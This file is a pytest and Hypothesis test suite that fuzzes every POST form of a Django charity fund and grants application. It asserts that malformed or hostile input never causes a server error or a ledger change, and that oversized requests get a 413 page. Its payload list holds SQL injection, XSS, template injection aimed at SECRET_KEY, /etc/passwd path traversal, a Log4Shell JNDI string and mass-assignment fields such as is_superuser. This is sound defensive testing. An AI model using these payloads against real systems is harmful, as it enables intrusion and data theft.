"""Bad input everywhere: oversized requests get a clear 413 page, and random or malicious
data posted to every form in the access table gets a 4xx or the form again, never a server
error and never a change to the ledger.

Forms are found from tests/access_table.py: each URL whose page (opened by a persona
allowed to use it) holds a POST form with something to type or choose. New forms are
fuzzed as soon as their URL has an entry there.
"""

from html.parser import HTMLParser
from urllib.parse import urlencode, urljoin, urlsplit

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import resolve, reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fund.models import Entry, Transfer
from grants.services.decisions import grant_approve
from tests.access_table import (
    ACCESS,
    ANONYMOUS,
    AUDITOR,
    KEY_WORKER_A,
    MANAGER,
    OFFICER,
    PARTNER,
)
from tests.fund.helpers import post
from tests.test_access_table import PATTERNS, fill, is_admin

# Who fills in each form: the public for public forms, otherwise the most powerful persona
# allowed to (a refusal proves nothing).
PREFERENCE = (ANONYMOUS, MANAGER, OFFICER, KEY_WORKER_A, AUDITOR, PARTNER)
TYPED_INPUTS = {
    "text",
    "number",
    "email",
    "date",
    "time",
    "datetime-local",
    "tel",
    "url",
    "password",
    "search",
    "file",
    "radio",
    "checkbox",
}


class PostForms(HTMLParser):
    """The page's POST forms: each one's ``action`` and the names of the fields in it that a
    person types into or chooses."""

    def __init__(self):
        super().__init__()
        self.forms: list[tuple[str, dict[str, str]]] = []
        self.current: dict[str, str] | None = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form":
            if (attrs.get("method") or "").lower() == "post":
                self.current = {}
                self.forms.append((attrs.get("action") or "", self.current))
        elif self.current is not None and attrs.get("name"):
            kind = (attrs.get("type") or "text").lower() if tag == "input" else tag
            if kind in TYPED_INPUTS or tag in ("select", "textarea"):
                self.current[attrs["name"]] = kind

    def handle_endtag(self, tag):
        if tag == "form":
            self.current = None


# The pages known to offer a form to fill, as the persona chosen below. A listed page that
# offers none fails; a page that offers one and is not listed fails the discovery test.
FORM_PAGES = {
    "account_change_password",
    "account_email",
    "account_login",
    "account_reauthenticate",
    "account_reset_password",
    "banking:layouts",
    "banking:line",
    "banking:rules",
    "banking:statements",
    "banking:suspense-clear",
    "donate",
    "donations:cash_collection",
    "donations:cash_collection_create",
    "donations:cash_point_create",
    "donations:cash_point_edit",
    "donations:gasds-claim",
    "donations:gasds-payment",
    "donations:gift-aid",
    "donations:gift-aid-repayment",
    "donations:gift-aid-template",
    "donations:payment-refund",
    "donations:pledge",
    "donations:pledges",
    "donations:stripe-finding-post",
    "donations:tap_terminal_create",
    "donations:taps",
    "subject-access",
    "grants:agencies",
    "grants:agency_edit",
    "grants:detail",
    "grants:limits",
    "grants:new",
    "grants:people",
    "grants:person",
}
# Pages whose forms depend on a record's state, opened again with the record moved on
# (a fixture to ask for first): an approved request offers the payout and cancel forms.
LATER_STATES = {"grants:detail approved": ("grants:detail", "approved_grant_request")}


@pytest.fixture
def approved_grant_request(grant_request, officer, manager, public_fund):
    post(manager, public_fund, "assets:bank", "income:donations:online", "100.00")
    return grant_approve(actor=officer, grant=grant_request)


def persona_for(key):
    access = ACCESS.get(key)
    return next((p for p in PREFERENCE if p in access.allow), None)


def form_urls():
    """Every GET page in the access table that some persona may open."""
    for key, (route, _pattern) in PATTERNS:
        access = ACCESS.get(key)
        if is_admin(route) or access is None or access.method != "GET":
            continue
        if persona_for(key) is not None:
            yield key


def page_path(request, key):
    """The path of the page at ``key``, the records it needs created first."""
    access = ACCESS[key]
    for fixture in access.needs:
        request.getfixturevalue(fixture)
    return reverse(key, kwargs={k: fill(request, v) for k, v in access.kwargs.items()})


def open_page(personas, key, path):
    """The page as its chosen persona: (client, the fillable forms as (action path, fields))."""
    client = Client(raise_request_exception=False)
    user = personas[persona_for(key)]
    if user is not None:
        client.force_login(user)
    page = client.get(path)
    parser = PostForms()
    if not page.streaming:
        parser.feed(page.content.decode(errors="replace"))
    forms = [
        (urlsplit(urljoin(f"http://testserver{path}", action)).path, fields)
        for action, fields in parser.forms
        if fields
    ]
    return client, forms


MALICIOUS = st.sampled_from(
    [
        "' OR '1'='1",
        "1; DROP TABLE fund_transfer; --",
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "{{ settings.SECRET_KEY }}",
        "{% debug %}",
        "../../../../etc/passwd",
        "\x00",
        "a\x00b",
        "\u202e\u0000\ufeff",
        "%s%s%s%n",
        "x" * 10_000,
        "${jndi:ldap://example.org/a}",
        "",
        " ",
        "-1",
        "0",
        "NaN",
        "Infinity",
        "1e400",
        "99999999999999999999999999",
        "2026-02-30",
        "00:99",
        "null",
        "true",
        "[]",
        "{}",
    ]
)
# Never a valid amount: amounts are where a bad value could cost money.
BAD_AMOUNTS = st.sampled_from(
    [
        "",
        "abc",
        "-5.00",
        "0",
        "0.001",
        "12.345",
        "NaN",
        "-Infinity",
        "1e400",
        "£5",
        "5 USD",
        "5,00,0",
        "1.2.3",
        "99999999999999999999",
        "\x00",
        "-0.01",
        "0x10",
    ]
)
EXTRA_FIELDS = st.fixed_dictionaries(
    {},
    optional={
        "status": st.sampled_from(["approved", "paid", "confirmed", "closed"]),
        "amount_currency": st.sampled_from(["USD", "EUR", "XXX"]),
        "is_superuser": st.just("on"),
        "actor": st.just("1"),
        "pk": st.just("1"),
        "id": st.just("1"),
        "fund": st.just("999999"),
        "created_by": st.just("1"),
    },
)


def ledger_state():
    return Entry.objects.count(), Transfer.objects.count()


def fuzzed(data, fields):
    payload = {}
    for name, kind in fields.items():
        if "amount" in name:
            payload[name] = data.draw(BAD_AMOUNTS, label=name)
        elif kind == "file":
            body = data.draw(st.binary(max_size=2048), label=name)
            payload[name] = SimpleUploadedFile("evil.pdf.exe", body, "application/pdf")
        elif kind == "select":
            # Never a real choice (random text could name a real fund's id).
            payload[name] = data.draw(MALICIOUS, label=name)
        else:
            payload[name] = data.draw(MALICIOUS | st.text(max_size=200), label=name)
    payload.update(data.draw(EXTRA_FIELDS, label="extra fields"))
    return payload


# Forms whose only field is a free-text reason, so any text is a real instruction: cancelling
# an approved grant with any reason rightly reverses its commitment in the ledger.
ANY_TEXT_IS_AN_ANSWER = {"grants:cancel"}

CASES = {key: (key, None) for key in sorted(FORM_PAGES)} | LATER_STATES


@pytest.mark.parametrize("case", list(CASES))
@settings(
    max_examples=12,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_random_and_malicious_posts_never_fail_or_touch_the_ledger(request, personas, case, data):
    key, state = CASES[case]
    if state is not None:
        request.getfixturevalue(state)
    path = page_path(request, key)
    # Each example starts from the same records: a post that was (rightly) accepted, such
    # as a request for information, would otherwise take the next example's forms away.
    with transaction.atomic():
        client, forms = open_page(personas, key, path)
        assert forms, f"{key} ({path}) offers no form to fill as {persona_for(key)}"

        for action, fields in forms:
            payload = fuzzed(data, fields)
            before = ledger_state()

            response = client.post(action, payload)

            assert response.status_code < 500, f"POST {action}: {response.status_code}"
            if resolve(action).view_name not in ANY_TEXT_IS_AN_ANSWER:
                assert ledger_state() == before, f"POST {action} changed the ledger"
            if 300 <= response.status_code < 400:
                # Only back to the page or the form (allauth's pages answer a post that does
                # nothing that way); never a success redirect elsewhere built on bad data.
                target = urlsplit(response["Location"]).path
                assert target in (path, action), (
                    f"POST {action} was accepted, redirecting to {target}"
                )
        transaction.set_rollback(True)


@pytest.mark.parametrize("encoding", ["urlencoded", "multipart"])
def test_an_oversized_form_gets_a_413_page(client, db, encoding):
    fields = {"login": "x" * 3_000_000, "password": "p"}
    if encoding == "urlencoded":
        response = client.post(
            reverse("account_login"),
            urlencode(fields),
            content_type="application/x-www-form-urlencoded",
        )
    else:
        response = client.post(reverse("account_login"), fields)

    assert response.status_code == 413
    assert "too large to send" in response.content.decode()


def test_an_oversized_upload_gets_a_413_page_and_nothing_is_read(client, officer):
    client.force_login(officer)
    # Over settings.MAX_UPLOAD_REQUEST_BYTES: a 10 MB file and a 2.5 MB form.
    big = SimpleUploadedFile("quote.pdf", b"%PDF-" + b"0" * (13 * 1024 * 1024), "application/pdf")

    response = client.post(reverse("account_login"), {"file": big})

    assert response.status_code == 413
    assert "A file must be 10 MB or smaller." in response.content.decode()


def test_an_upload_within_the_limit_reaches_the_page(client, db):
    small = SimpleUploadedFile("quote.pdf", b"%PDF-" + b"0" * (3 * 1024 * 1024), "application/pdf")

    response = client.post(reverse("account_login"), {"file": small, "login": "a", "password": "b"})

    assert response.status_code == 200


def test_a_malformed_multipart_body_is_not_a_server_error(client, db):
    response = client.generic(
        "POST",
        reverse("account_login"),
        b'--boundary\r\nContent-Disposition: form-data; name="login"\r\n\r\nx',
        content_type="multipart/form-data; boundary=boundary",
    )

    assert response.status_code < 500


def test_every_page_offering_a_form_is_listed(request, personas):
    """Guards the discovery: a new form is fuzzed once its page is in FORM_PAGES."""
    found = {}
    for key in form_urls():
        _client, forms = open_page(personas, key, page_path(request, key))
        if forms:
            found[key] = sorted(action for action, _fields in forms)
    assert set(found) == set(FORM_PAGES), found
